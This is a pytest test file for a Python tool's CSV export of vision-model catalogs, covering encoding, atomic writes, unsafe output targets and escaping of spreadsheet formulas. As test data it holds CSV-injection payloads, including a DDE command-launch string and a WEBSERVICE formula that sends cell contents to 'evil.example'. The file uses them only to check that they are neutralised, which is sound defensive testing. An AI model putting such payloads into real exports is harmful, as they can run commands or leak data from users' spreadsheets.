"""CSV export: UTF-8, lists joined, plain decimals, formulas neutralised, no secrets."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest
from factories import model, run_cli_process, shared_catalog

from vision_models import export_csv, fetch_vision_models
from vision_models.catalog.api import models_frame
from vision_models.present.export import to_csv_text

VISION = ("text", "image")
HOSTILE = {
    '=HYPERLINK("http://evil.example","click")': '\'=HYPERLINK("http://evil.example","click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\tTabbed": "'\tTabbed",
    "\rReturn": "'\rReturn",
    "\nNewline": "'\nNewline",
    "Plain – ünïcödé 模型": "Plain – ünïcödé 模型",
}


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_rows_end_in_crlf_and_a_bare_carriage_return_stays_inside_its_cell():
    text = to_csv_text(models_frame([model("a/b", name="one\rtwo")]))
    assert text.count("\r\n") == 2  # header and one row
    assert _rows(text)[0]["name"] == "one\rtwo"


def test_formulas_are_neutralised_and_numbers_untouched():
    entries = [model(f"evil/m{i}", name=name, inputs=VISION, prompt="-1") for i, name in enumerate(HOSTILE)]
    entries.append(model("ok/negative-is-a-number", inputs=VISION, context_length=-5))
    rows = {r["id"]: r for r in _rows(to_csv_text(models_frame(entries)))}
    for i, (name, safe) in enumerate(HOSTILE.items()):
        assert rows[f"evil/m{i}"]["name"] == safe
    assert rows["evil/m0"]["prompt_usd_per_mtok"] == ""  # "-1" is variable: unknown, an empty cell


def test_safe_false_keeps_text_as_it_came():
    frame = models_frame([model("evil/m", name="=1+1", inputs=VISION)])
    assert _rows(to_csv_text(frame, safe=False))[0]["name"] == "=1+1"


def test_units_lists_dates_and_utf8(tmp_path):
    frame = models_frame(
        [
            model(
                "openai/gpt-4o",
                name="GPT-4o ✓",
                prompt="0.0000025",
                completion="0.00001",
                inputs=("text", "image", "file"),
                pricing={"prompt": "0.0000025", "completion": "0.00001", "image": "0.0000001"},
            )
        ]
    )
    path = export_csv(frame, tmp_path / "out.csv")
    raw = path.read_bytes()
    text = raw.decode("utf-8")
    row = _rows(text)[0]
    assert text.splitlines()[0].startswith("id,name,description,provider,context_length")
    assert row["name"] == "GPT-4o ✓"
    assert row["prompt_usd_per_mtok"] == "2.5" and row["completion_usd_per_mtok"] == "10"
    assert row["image_price"] == "0.0000001"  # a plain decimal, never 1e-07
    assert row["input_modalities"] == "text|image|file"
    assert row["vision_evidence"] == "modality|image_price|name"  # image input, a price, the GPT-4o family
    assert row["created"] == "2023-11-14T22:13:20Z"


def test_real_catalog_with_a_planted_formula_name(tmp_path):
    source = shared_catalog("openrouter-2026-05-01.json")
    data = json.loads(source.read_text())
    victim = next(m for m in data["data"] if m["id"] == "openai/gpt-4o")
    victim["name"] = '=WEBSERVICE("http://evil.example/?"&A1)'
    victim["description"] = "@now read this"
    planted = tmp_path / "planted.json"
    planted.write_text(json.dumps(data))
    out = tmp_path / "vision.csv"
    export_csv(fetch_vision_models(planted).models, out)
    rows = {r["id"]: r for r in _rows(out.read_text(encoding="utf-8"))}
    assert len(rows) == 166  # the catalog README's vision count (strict rules, the default)
    assert rows["openai/gpt-4o"]["name"] == '\'=WEBSERVICE("http://evil.example/?"&A1)'
    assert rows["openai/gpt-4o"]["description"] == "'@now read this"
    risky = [v for r in rows.values() for v in r.values() if v and v[0] in "=+@\t\r\n"]
    assert risky == []


def test_cli_export_writes_the_filtered_models_without_secrets(tmp_path):
    out = tmp_path / "vision.csv"
    env = {**os.environ, "OPENROUTER_API_KEY": "sk-or-v1-never-in-a-file"}
    done = subprocess.run(
        [sys.executable, "-m", "vision_models.cli", "export", str(out), "--source", "sample", "--provider", "openai"],
        capture_output=True,
        text=True,
        env=env,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == ""
    assert "wrote" in done.stderr
    content = out.read_text(encoding="utf-8")
    rows = _rows(content)
    assert rows and {r["provider"] for r in rows} == {"openai"}
    assert "sk-or-v1" not in content
    assert not {"expires", "cache_key", "created_at", "headers"} & set(rows[0])


def test_cli_export_to_an_unwritable_place_is_exit_2(tmp_path):
    done = run_cli_process("export", str(tmp_path / "no" / "such" / "dir.csv"), "--source", "sample")
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.strip().splitlines()[-1].startswith("vision-models: cannot write")


@pytest.mark.parametrize("fmt", ["csv"])
def test_cost_table_exports_too(tmp_path, fmt):
    import vision_models as vm

    costs = vm.cost_per_image(fetch_vision_models("sample").models, preset="letter-200dpi", output_tokens=700)
    rows = _rows(to_csv_text(costs))
    assert {"usd_per_1k_images", "listed_price_reading"} <= set(rows[0])
    assert rows[0]["free"] == "True"


def test_new_frame_fields_reach_csv_and_json():
    from vision_models.present.export import to_json_records

    frame = models_frame(
        [
            model(
                "a/b",
                pricing={
                    "prompt": "0.000001",
                    "completion": "0.000002",
                    "input_cache_read": "0.0000001",
                    "discount": 0.1,
                },
                supported_parameters=["=cmd", "response_format"],  # remote text: a formula is neutralised
                expiration_date="2026-06-01",
            )
        ]
    )
    (row,) = _rows(to_csv_text(frame))
    assert row["cache_read_usd_per_mtok"] == "0.1" and row["discount"] == "0.1"
    assert row["supported_parameters"] == "'=cmd|response_format"
    assert row["structured_outputs"] == "True" and row["takes_files"] == "False"
    assert row["expiration_date"] == "2026-06-01T00:00:00Z" and row["expiring"] == "True"
    assert row["free"] == "False" and row["is_router"] == "False"
    (record,) = json.loads(to_json_records(frame))
    assert record["supported_parameters"] == ["=cmd", "response_format"]
    assert record["expiration_date"] == "2026-06-01T00:00:00Z" and record["discount"] == 0.1


# OWASP's CSV-injection guidance: a cell must not *start*, as a spreadsheet reads it, with
# = + - @ tab CR (ASVS 1.2.10 adds NUL). A spreadsheet skips leading blanks and invisible
# characters and folds full-width forms, and one whose locale separates fields with ';'
# starts a new cell after each ';'. Expected values are written by hand from that rule.
DISGUISED = {
    "  =1+1": "'  =1+1",
    "\u00a0=1+1": "'\u00a0=1+1",  # no-break space
    "\u200b=1+1": "'\u200b=1+1",  # zero-width space
    "\u2060@SUM(A1)": "'\u2060@SUM(A1)",  # word joiner
    "\ufeff+cmd": "'\ufeff+cmd",  # byte-order mark
    "\uff1d1+1": "'\uff1d1+1",  # full-width =
    "\uff0b1": "'\uff0b1",  # full-width +
    "\uff0d1": "'\uff0d1",  # full-width -
    "\uff20SUM(A1)": "'\uff20SUM(A1)",  # full-width @
    "\x00=1": "'\x00=1",  # NUL first
    'harmless;=HYPERLINK("http://evil.example")': 'harmless;\'=HYPERLINK("http://evil.example")',
    "a; -2+3;b": "a;' -2+3;b",
    "semi;colons;only": "semi;colons;only",
    "x=1, y+2 @ home": "x=1, y+2 @ home",
}


@pytest.mark.parametrize("text, safe", list(DISGUISED.items()))
def test_formula_triggers_behind_blanks_invisible_or_full_width_characters_and_after_semicolons(text, safe):
    frame = models_frame([model("evil/m", name=text, inputs=VISION)])
    assert _rows(to_csv_text(frame))[0]["name"] == safe


def test_a_failed_export_leaves_no_partial_file_and_keeps_the_old_one(tmp_path, monkeypatch):
    import vision_models.present.export as export

    target = tmp_path / "vision.csv"
    target.write_text("the previous export\r\n", encoding="utf-8")
    frame = models_frame([model(f"a/m{i}", inputs=VISION) for i in range(50)])
    real = os.fsync

    def failing_fsync(fd):  # the disk fills up while the file is being finished
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "fsync", failing_fsync)
    with pytest.raises(OSError, match="No space left"):
        export_csv(frame, target)
    monkeypatch.setattr(export.os, "fsync", real)
    assert target.read_bytes() == b"the previous export\r\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["vision.csv"]  # no temporary file left behind
    export_csv(frame, target)
    assert len(_rows(target.read_text(encoding="utf-8"))) == 50


def test_a_lone_surrogate_in_a_frame_is_written_as_a_replacement_character(tmp_path):
    frame = models_frame([model("a/ok", inputs=VISION), model("a/bad", name="bad \ud800 name", inputs=VISION)])
    path = export_csv(frame, tmp_path / "out.csv")
    rows = {r["id"]: r for r in _rows(path.read_text(encoding="utf-8"))}
    assert rows["a/bad"]["name"] == "bad \ufffd name" and rows["a/ok"]["name"] == "ok"


def _text_dtypes() -> list:
    dtypes = ["object", "str", "string[python]"]
    try:
        import pyarrow  # noqa: F401
    except ImportError:
        return dtypes
    return [*dtypes, "string[pyarrow]"]


@pytest.mark.parametrize("dtype", [*_text_dtypes(), "category"])
def test_formulas_are_neutralised_in_every_text_dtype_and_in_categoricals(dtype):
    import pandas as pd

    frame = pd.DataFrame(
        {"id": ["a", "b", "c", "d"], "text": pd.Series(["=cmd()", " @SUM(A1)", "plain", None], dtype=dtype)}
    )
    rows = _rows(to_csv_text(frame))
    assert [r["text"] for r in rows] == ["'=cmd()", "' @SUM(A1)", "plain", ""]  # written by hand from the rule above


def test_a_categorical_of_text_categories_is_neutralised_and_one_of_numbers_stays_numbers():
    import pandas as pd

    frame = pd.DataFrame(
        {
            "label": pd.Categorical(["+1", "ok", "+1", "-2+3"]),
            "price": pd.Categorical([-1.5, 0.00000025, -1.5, None]),
            "count": pd.Categorical([-3, 4, None, 4]),
        }
    )
    text = to_csv_text(frame)
    assert text == ("label,price,count\r\n'+1,-1.5,-3\r\nok,0.00000025,4\r\n'+1,-1.5,\r\n'-2+3,,4\r\n")


def test_negative_numbers_in_numeric_columns_are_not_formulas():
    import pandas as pd

    frame = pd.DataFrame({"x": [-1.5, 2.0], "n": [-7, 3], "s": pd.array([-2, None], dtype="Int64")})
    assert to_csv_text(frame) == "x,n,s\r\n-1.5,-7,-2\r\n2,3,\r\n"


# A path that is not a regular file is never replaced by one: refused, left exactly as it was.
def _snapshot(path) -> tuple:
    status = os.lstat(path)
    target = os.readlink(path) if os.path.islink(path) else None
    return status.st_mode, status.st_ino, status.st_mtime_ns, target


def _one_model_frame():
    return models_frame([model("a/new", inputs=VISION)])


def _fifo(tmp_path):
    path = tmp_path / "pipe.csv"
    os.mkfifo(path)
    return path


def _directory(tmp_path):
    path = tmp_path / "folder.csv"
    path.mkdir()
    return path


def _read_only(tmp_path):
    path = tmp_path / "frozen.csv"
    path.write_text("kept\r\n")
    path.chmod(0o444)  # no write bit for anyone: refused even when running as root
    return path


def _dangling(tmp_path):
    path = tmp_path / "link.csv"
    path.symlink_to(tmp_path / "nowhere" / "x.csv")
    return path


def _loop(tmp_path):
    (tmp_path / "b.csv").symlink_to(tmp_path / "a.csv")
    (tmp_path / "a.csv").symlink_to(tmp_path / "b.csv")
    return tmp_path / "a.csv"


REFUSED = {
    "fifo": (_fifo, "a FIFO, not a regular file"),
    "directory": (_directory, "a directory, not a file"),
    "read-only": (_read_only, "a read-only file"),
    "dangling link": (_dangling, "a symbolic link to nothing"),
    "link loop": (_loop, "a loop of symbolic links"),
}


@pytest.mark.parametrize("kind", list(REFUSED))
def test_export_refuses_what_is_not_a_writable_regular_file_and_leaves_it(tmp_path, kind):
    from vision_models.present.export import UnsafeTarget

    make, reason = REFUSED[kind]
    path = make(tmp_path)
    before = _snapshot(path)
    names = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(UnsafeTarget) as caught:
        export_csv(_one_model_frame(), path)
    assert caught.value.strerror.startswith(reason) and caught.value.filename == str(path)
    assert _snapshot(path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == names  # no temporary file, no new file


def test_export_refuses_a_device():
    from vision_models.present.export import UnsafeTarget

    before = os.stat("/dev/null")
    with pytest.raises(UnsafeTarget, match="a character device, not a regular file"):
        export_csv(_one_model_frame(), "/dev/null")
    after = os.stat("/dev/null")
    assert (after.st_mode, after.st_rdev, after.st_ino) == (before.st_mode, before.st_rdev, before.st_ino)


def test_export_writes_through_a_symbolic_link_as_cp_does(tmp_path):
    real = tmp_path / "data" / "vision.csv"
    real.parent.mkdir()
    real.write_text("old\r\n")
    real.chmod(0o640)
    link = tmp_path / "latest.csv"
    link.symlink_to(real)
    assert export_csv(_one_model_frame(), link) == link
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert [r["id"] for r in _rows(real.read_text(encoding="utf-8"))] == ["a/new"]
    assert oct(real.stat().st_mode & 0o777) == "0o640"
    assert sorted(p.name for p in real.parent.iterdir()) == ["vision.csv"]


def test_export_over_a_private_file_keeps_it_private(tmp_path):
    path = tmp_path / "private.csv"
    path.write_text("old\r\n")
    path.chmod(0o600)
    export_csv(_one_model_frame(), path)
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    assert [r["id"] for r in _rows(path.read_text(encoding="utf-8"))] == ["a/new"]


@pytest.mark.parametrize("kind", ["fifo", "read-only", "dangling link"])
def test_cli_export_and_trials_export_refuse_in_one_line_with_exit_2(tmp_path, capsys, kind):
    from vision_models.cli import main

    make, reason = REFUSED[kind]
    path = make(tmp_path)
    before = _snapshot(path)
    for argv in (["export", str(path), "--source", "sample"], ["trials", "export", "run-1", str(path)]):
        status = main(argv)
        out, err = capsys.readouterr()
        assert status == 2 and out == "", argv
        assert err.count("\n") == 1 and "Traceback" not in err
        assert err.startswith(f"vision-models: cannot write {str(path)!r}: {reason}")
        assert _snapshot(path) == before
